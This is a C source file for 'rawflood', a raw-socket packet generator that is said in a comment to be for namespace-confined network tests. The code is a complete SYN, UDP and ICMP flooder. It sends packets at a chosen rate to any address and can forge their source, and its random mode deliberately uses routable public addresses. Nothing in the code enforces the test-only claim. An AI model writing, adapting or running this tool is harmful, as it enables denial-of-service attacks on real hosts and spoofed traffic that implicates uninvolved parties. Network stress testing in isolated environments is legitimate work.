/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Packets of one kind at a rate, from an address given or from ever different ones: TCP connection
 * requests, datagrams, pings. For the network tests, and only ever pointed at addresses inside the
 * namespaces that the run itself made.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/ip_icmp.h>
#include <netinet/tcp.h>
#include <netinet/udp.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>

struct packet {
	struct iphdr ip;
	union {
		struct tcphdr tcp;
		struct udphdr udp;
		struct icmphdr icmp;
	};
};

/* xorshift32 (Marsaglia 2003): the same addresses in every run. */
static uint32_t next(uint32_t *x)
{
	*x ^= *x << 13;
	*x ^= *x >> 17;
	*x ^= *x << 5;
	return *x;
}

static uint32_t add(uint32_t sum, const void *p, size_t n)
{
	const uint8_t *b = p;

	for (size_t i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)b[i] << 8 | b[i + 1];
	return sum;
}

/* RFC 1071 */
static uint16_t fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return htons((uint16_t)~sum);
}

static size_t build(struct packet *p, int proto, uint16_t port, uint32_t *x)
{
	const size_t l4 = proto == IPPROTO_TCP ? sizeof(p->tcp)
		: proto == IPPROTO_UDP         ? sizeof(p->udp)
					       : sizeof(p->icmp);
	uint32_t pseudo = add(0, &p->ip.saddr, 8) + (uint32_t)proto + (uint32_t)l4;

	memset(&p->tcp, 0, sizeof(p->tcp));
	p->ip.tot_len = htons((uint16_t)(sizeof(p->ip) + l4));
	if (proto == IPPROTO_TCP) {
		p->tcp.source = htons((uint16_t)(1024 + next(x) % 60000));
		p->tcp.dest = htons(port);
		p->tcp.seq = next(x);
		p->tcp.doff = 5;
		p->tcp.syn = 1;
		p->tcp.window = htons(64240);
		p->tcp.check = fold(add(pseudo, &p->tcp, l4));
	} else if (proto == IPPROTO_UDP) {
		p->udp.source = htons((uint16_t)(1024 + next(x) % 60000));
		p->udp.dest = htons(port);
		p->udp.len = htons((uint16_t)l4);
		p->udp.check = fold(add(pseudo, &p->udp, l4));
	} else {
		p->icmp.type = ICMP_ECHO;
		p->icmp.un.echo.id = (uint16_t)next(x);
		p->icmp.checksum = fold(add(0, &p->icmp, l4));
	}
	return sizeof(p->ip) + l4;
}

/* A public address: not one that routers refuse. */
static uint32_t anybody(uint32_t *x)
{
	for (;;) {
		const uint32_t a = next(x), top = a >> 24;
		if (top >= 11 && top <= 99)
			return htonl(a);
	}
}

static double now(void)
{
	struct timespec t;

	clock_gettime(CLOCK_MONOTONIC, &t);
	return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

int main(int argc, char **argv)
{
	const int proto = argc < 2             ? 0
		: strcmp(argv[1], "syn") == 0  ? IPPROTO_TCP
		: strcmp(argv[1], "udp") == 0  ? IPPROTO_UDP
		: strcmp(argv[1], "ping") == 0 ? IPPROTO_ICMP
					       : 0;
	struct sockaddr_in to = {.sin_family = AF_INET};
	struct in_addr from = {0};
	uint32_t x = 2463534242u;
	struct packet p = {0};
	unsigned long sent = 0, failed = 0;

	if (argc != 7 || !proto || inet_pton(AF_INET, argv[3], &to.sin_addr) != 1 ||
		(strcmp(argv[2], "random") != 0 && inet_pton(AF_INET, argv[2], &from) != 1)) {
		fprintf(stderr,
			"usage: rawflood syn|udp|ping SOURCE|random ADDR PORT RATE COUNT\n");
		return 2;
	}
	const uint16_t port = (uint16_t)strtoul(argv[4], NULL, 10);
	const double rate = strtod(argv[5], NULL);
	const unsigned long count = strtoul(argv[6], NULL, 10);
	const int fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("rawflood");
		return 1;
	}
	p.ip = (struct iphdr){.version = 4,
		.ihl = 5,
		.ttl = 64,
		.protocol = (uint8_t)proto,
		.daddr = to.sin_addr.s_addr};
	for (const double begin = now(); sent + failed < count;) {
		const double due = (now() - begin) * rate;

		if ((double)(sent + failed) > due) {
			const struct timespec pause = {0, 500000};
			nanosleep(&pause, NULL);
			continue;
		}
		p.ip.saddr = from.s_addr ? from.s_addr : anybody(&x);
		p.ip.id = (uint16_t)next(&x);
		const size_t n = build(&p, proto, port, &x);
		if (sendto(fd, &p, n, 0, (struct sockaddr *)&to, sizeof(to)) == (ssize_t)n)
			sent++;
		else
			failed++;
	}
	printf("sent %lu failed %lu\n", sent, failed);
	return 0;
}
